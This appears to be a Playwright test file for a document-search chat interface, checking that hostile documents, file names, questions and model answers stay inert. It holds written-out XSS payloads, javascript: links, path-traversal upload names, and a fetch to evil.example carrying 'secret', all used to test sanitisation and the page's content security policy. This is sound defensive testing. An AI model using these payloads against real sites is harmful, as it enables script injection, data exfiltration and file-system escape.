"""Hostile documents in a real Chromium: nothing in them runs, nothing is fetched, nothing leaves its folder."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from browserkit import LONG, Watched, browser_fixture, opened, served  # noqa: F401 (a fixture)
from chatserver import ChatServer, serving
from files import pdf
from indexkit import build, settings
from playwright.sync_api import Browser, Page, expect

from eval.bench.load import synthetic_prose

RUNS = "document.title = 'RUN'; window.ran = true"
SCRIPT = f"<script>{RUNS}</script>"
IMAGE = f'<img src="x" onerror="{RUNS}">'
PIXEL = '<img src="http://evil.example/pixel.png">'
LINK = f'<a href="javascript:{RUNS}">press here</a>'
CHIP = '<a class="chip" href="/source?name=secret.txt" data-quote="forged">1</a>'
STYLE = "<style>body { display: none }</style>"
FRAME = '<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name="q"></form>'
MARKDOWN = "![pixel](http://evil.example/p.png) [click](http://evil.example/) <http://evil.example/>"
OVERRIDE = "The sum is \u202e000,1\u202c pounds."
CHAT = ChatServer()
KEY = "The keeper of the orchard key is Ada Lowe."
CALM = "All else that was written down that year was about the weather, which was mild, and about the harvest. " * 4

ATTACKS = {
    "script": SCRIPT,
    "handler": IMAGE,
    "pixel": PIXEL,
    "link": LINK,
    "chip": CHIP,
    "style": STYLE,
    "frame": FRAME,
    "markdown": MARKDOWN,
    "override": OVERRIDE,
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} {words}",
    "breakout": f'"></mark></div></body>{SCRIPT}',
    "entities": "&lt;script&gt;document.title='RUN'&lt;/script&gt; &#x3c;b&#x3e;",
}


def sentence(name: str, attack: str) -> str:
    return f"The attack called {name} in the orchard key file reads {attack} and ends. {KEY} {CALM}"


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of attacks: as text, as Markdown, as HTML, as PDF, in names and titles."""
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "documents"
    home.mkdir()
    for name, attack in ATTACKS.items():
        (home / f"{name}.txt").write_text(sentence(name, attack))
        (home / f"{name}.md").write_text(f"# {attack}\n\n{sentence(name, attack)}\n")
        page = f"<html><head><title>{name} {attack}</title></head><body><p>{sentence(name, attack)}</p></body></html>"
        (home / f"{name}.html").write_text(page)
    named = "<img src=x onerror=alert(1)>"
    (home / f"{named}.txt").write_text(sentence("name", "nothing"))
    (home / "annual\u202efdp.txt").write_text(sentence("reversed name", "nothing"))
    (home / "titled.pdf").write_bytes(pdf([[sentence("title", "nothing")]], Title=f"{SCRIPT}{IMAGE}"))
    (home / "line.txt").write_text(" ".join(synthetic_prose(10).split()))
    return folder


@pytest.fixture(scope="module")
def address(shelf: Path) -> Iterator[str]:
    at = settings(shelf, answer_threshold=0.0, rerank_top_k=0, chunk_tokens=254)
    report = build(shelf / "documents", into=at)
    assert not report.failed
    with served(at) as found:
        yield found


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page whose answers a hostile model writes."""
    folder = tmp_path_factory.mktemp("model")
    (folder / "key.txt").write_text(KEY)
    with serving(CHAT):
        at = settings(folder, chat_model="openai:m", chat_base_url=f"{CHAT.address}/v1", rerank_top_k=0)
        build(folder / "key.txt", into=at)
        with served(at) as found:
            yield found


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Watched]:
    with opened(browser, address) as found:
        yield found
        harmless(found.page)


def show(page: Watched, address: str) -> None:
    """Open a document beside the conversation, as a link to it does."""
    page.page.evaluate("address => import('/ui/source.js').then(module => module.open(address))", address)


def harmless(page: Page) -> None:
    """Nothing ran, and nothing of a document became an element of ours or an address."""
    assert page.evaluate("window.ran") is None
    assert page.title() != "RUN"
    assert page.locator("iframe, object, embed, #talk img, #pane .document img").count() == 0
    assert page.locator("[onerror], [onclick], [onload], [onmouseover]").count() == 0
    foreign = "[...document.querySelectorAll('[href], [src], [action]')].map(e => e.href || e.src || e.action)"
    found = [url for url in page.evaluate(foreign) if "evil.example" in str(url) or str(url).startswith("javascript")]
    assert found == []


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_a_document_stays_text_in_answer_card_source_and_inspection(page: Watched, name: str) -> None:
    turn = page.ask(f"how does the attack called {name} in the orchard key file read?")
    chip = turn.locator("a.chip").first
    assert chip.get_attribute("href").startswith("/source?")
    chip.hover()
    expect(page.page.locator(".card")).to_be_visible()
    chip.click()
    mark = page.page.locator("#pane mark.cited").first
    expect(mark).to_be_visible()
    for kind in ("txt", "md", "html"):
        page.page.evaluate(
            "address => import('/ui/source.js').then(m => m.open(address))", f"/source?name={name}.{kind}"
        )
        expect(page.page.locator("#pane .facts")).to_contain_text(f"{name}.{kind}")
        expect(page.page.locator("#pane .document")).to_contain_text("reads")
        harmless(page.page)
    turn.get_by_role("link", name="How it was found").click()
    expect(page.page.locator("#pane .found li").first).to_be_visible()


def test_what_an_attack_looks_like_is_shown_as_it_is_written(page: Watched) -> None:
    page.page.goto(f"{page.page.url.split('?')[0]}source?name=script.txt")
    expect(page.page.locator(".document")).to_contain_text(SCRIPT)
    harmless(page.page)


def test_names_and_titles_of_files_are_text_everywhere(page: Watched) -> None:
    page.view("documents")
    expect(page.page.locator(".documents")).to_contain_text("<img src=x onerror=alert(1)>.txt")
    harmless(page.page)
    assert "\u202e" not in page.page.locator(".documents").text_content()
    page.page.locator(".documents tr", has_text="annualfdp.txt").locator(".source-link").click()
    expect(page.page.locator("#pane .document")).to_contain_text("reversed name")
    page.page.locator(".documents tr", has_text="titled.pdf").locator(".source-link").click()
    expect(page.page.locator("#pane h2")).to_contain_text("<script>")
    harmless(page.page)
    page.view("talk")
    page.page.click("#scopes summary")
    page.page.fill("#scopes .narrow", "annual")
    expect(page.page.locator("#scopes [data-fetched] label")).to_have_count(1)
    page.page.locator("#scopes [data-fetched] label").click()
    page.page.keyboard.press("Escape")
    turn = page.ask("who keeps the orchard key?")
    assert all("annual%E2%80%AEfdp" in chip.get_attribute("href") for chip in turn.locator("a.chip").all())


def test_a_line_of_ten_megabytes_opens_at_its_place(page: Watched) -> None:
    show(page, "/source?name=line.txt&start=9000000&end=9000018")
    expect(page.page.locator("#pane mark.cited")).to_be_in_viewport(timeout=LONG)
    expect(page.page.locator("#pane .cut")).to_contain_text("this part of it is shown")
    assert page.page.locator("#pane .document").evaluate("part => part.textContent.length") < 500_000


def test_questions_and_names_of_conversations_are_text(page: Watched) -> None:
    attack = f"who keeps the orchard key {SCRIPT}{IMAGE}{CHIP}?"
    turn = page.ask(attack)
    expect(turn.locator(".question")).to_have_text(attack)
    title = page.page.locator("#heading .title")
    title.fill(f"{IMAGE}{SCRIPT}")
    title.press("Enter")
    expect(page.page.locator("#listed button").first).to_contain_text("<img")
    page.page.reload()
    page.turn(0)
    harmless(page.page)


def test_an_uploaded_name_leads_nowhere(page: Watched, shelf: Path) -> None:
    page.view("documents")
    before = {path for path in shelf.rglob("*") if path.is_file()}
    names = [
        "../../../escape.txt",
        "..\\..\\escape.txt",
        f"{IMAGE}.txt",
        "a\u202etxt.exe.txt",
        "/etc/cron.d/escape.txt",
    ]
    for name in names:
        said = page.page.evaluate(
            "name => fetch('/documents/' + encodeURIComponent(name), {method: 'PUT', body: 'The orchard key.'})"
            ".then(answer => answer.status)",
            name,
        )
        assert said in (202, 404, 405)
    page.page.reload()
    page.page.locator(".turns").first.wait_for()
    page.view("documents")
    page.indexed()
    harmless(page.page)
    new = {path for path in shelf.rglob("*") if path.is_file()} - before
    inside = shelf / "data"
    assert all(path.is_relative_to(inside) for path in new)
    assert all(path.parent == inside / "uploads" / "shared" for path in new if "escape" in path.name)
    page.expected("404", "405")


@pytest.mark.parametrize("written", [PIXEL, LINK, MARKDOWN, SCRIPT, "[9] [1](http://evil.example/)"])
def test_what_a_model_writes_is_text_without_pictures_and_links(browser: Browser, model: str, written: str) -> None:
    CHAT.pieces[:] = [f"{KEY[:-1]} {written} [1]."]
    with opened(browser, model) as page:
        turn = page.ask("who keeps the orchard key?")
        harmless(page.page)
        turn.get_by_role("link", name="How it was found").click()
        page.page.locator("#pane summary", has_text="What the model wrote").click()
        expect(page.page.locator("#pane .fold pre").last).to_contain_text(written)
        harmless(page.page)


def test_the_policy_of_the_page_stops_what_would_get_through(page: Watched) -> None:
    """The last wall: even markup that somehow came in unescaped runs and fetches nothing."""
    page.page.evaluate(
        "html => { document.body.insertAdjacentHTML('beforeend', html) }",
        f"{IMAGE}{PIXEL}{FRAME}{SCRIPT}<object data='http://evil.example/'></object>",
    )
    page.page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))"
    )
    page.page.evaluate("fetch('http://evil.example/?q=secret').catch(() => 0)")
    page.page.wait_for_timeout(300)
    assert page.page.evaluate("window.ran") is None
    blocked = [trouble for trouble in page.troubles if "Content Security Policy" in trouble]
    assert len(blocked) >= 4
    sent = [trouble for trouble in page.troubles if trouble.startswith(("2", "3"))]
    assert sent == []
    page.troubles.clear()
    page.page.goto(page.page.url)
